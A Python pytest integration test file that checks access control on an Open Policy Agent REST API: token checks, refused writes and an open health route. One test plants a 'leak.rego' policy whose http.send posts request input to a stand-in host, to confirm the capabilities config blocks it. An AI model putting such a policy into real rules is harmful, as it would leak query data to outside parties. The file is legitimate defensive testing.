"""The stack's OPA over its REST API: only the hub's token asks, nobody writes, /health is open.

OPA's basic authorizer answers every refusal 401 "request rejected by administrative
policy" (it has no 403), so a refused write is recognised by that message and by the
policy and data being unchanged afterwards.
"""

from __future__ import annotations

import shutil

import pytest
import requests

from accord.core.errors import InfrastructureError
from accord.core.policy import opa_headers
from accord.governance.opa import IsolatedOpa

pytestmark = pytest.mark.integration

DECISIONS = "/v1/data/accord/sharing/decisions"
QUERY = {"input": {"now": "2020-04-02T10:00:00Z", "source_org": "x", "records": []}}
REFUSED = "request rejected by administrative policy"


@pytest.fixture
def hub(stack):
    return opa_headers(stack)


def call(stack, method, path, headers=None, **kwargs):
    return requests.request(method, stack.opa_url + path, headers=headers, timeout=10, **kwargs)


def test_no_token_gets_401_on_a_query(stack):
    response = call(stack, "POST", DECISIONS, json=QUERY)
    assert response.status_code == 401 and REFUSED in response.text


def test_a_wrong_token_gets_401(stack):
    response = call(stack, "POST", DECISIONS, {"Authorization": "Bearer guess"}, json=QUERY)
    assert response.status_code == 401


def test_the_hub_token_gets_a_decision(stack, hub):
    response = call(stack, "POST", DECISIONS, hub, json=QUERY)
    assert response.status_code == 200 and response.json()["result"] == []
    assert call(stack, "GET", "/v1/data/agreements", hub).json()["result"]
    assert call(stack, "GET", "/v1/policies", hub).status_code == 200


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("PUT", "/v1/policies/x", "package x\n\nallow := true\n"),
        ("PUT", "/v1/policies/accord/sharing/sharing.rego", "package accord.sharing\n"),
        ("PUT", "/v1/data/x", "{}"),
        ("PUT", "/v1/data/agreements", "{}"),
        ("PATCH", "/v1/data/agreements", "[]"),
        ("DELETE", "/v1/data/agreements", None),
        ("DELETE", "/v1/policies/x", None),
        ("GET", "/v1/data/system/accord", None),
        ("POST", "/v1/query", '{"query": "data"}'),
    ],
)
def test_writes_and_other_routes_are_refused_even_with_the_hub_token(
    stack, hub, method, path, body
):
    before = call(stack, "GET", "/v1/data/agreements", hub).json()["result"]
    response = call(stack, method, path, hub, data=body)
    assert response.status_code == 401 and REFUSED in response.text
    assert call(stack, "GET", "/v1/data/agreements", hub).json()["result"] == before
    ids = [p["id"] for p in call(stack, "GET", "/v1/policies", hub).json()["result"]]
    assert not any(i == "x" or i.endswith("_test.rego") for i in ids)


def test_health_is_open_without_a_token(stack):
    assert call(stack, "GET", "/health").status_code == 200


def test_a_policy_using_http_send_is_refused_by_the_capabilities(stack, tmp_path):
    candidate = tmp_path / "policies"
    shutil.copytree(stack.policies_dir, candidate)
    (candidate / "accord" / "leak.rego").write_text(
        "package accord.leak\n\n"
        'sent := http.send({"method": "POST", "url": "https://example.invalid", '
        '"body": input})\n'
    )
    with pytest.raises(InfrastructureError, match=r"refused by the hub's OPA capabilities"):
        with IsolatedOpa(stack, candidate):
            pass


def test_an_isolated_opa_serves_the_same_access_rules(stack, hub):
    with IsolatedOpa(stack, stack.policies_dir) as opa:
        assert requests.post(opa.url + DECISIONS, json=QUERY, timeout=10).status_code == 401
        answer = requests.post(opa.url + DECISIONS, json=QUERY, headers=hub, timeout=10)
        assert answer.status_code == 200
        put = requests.put(opa.url + "/v1/policies/x", data="package x\n", headers=hub, timeout=10)
        assert put.status_code == 401
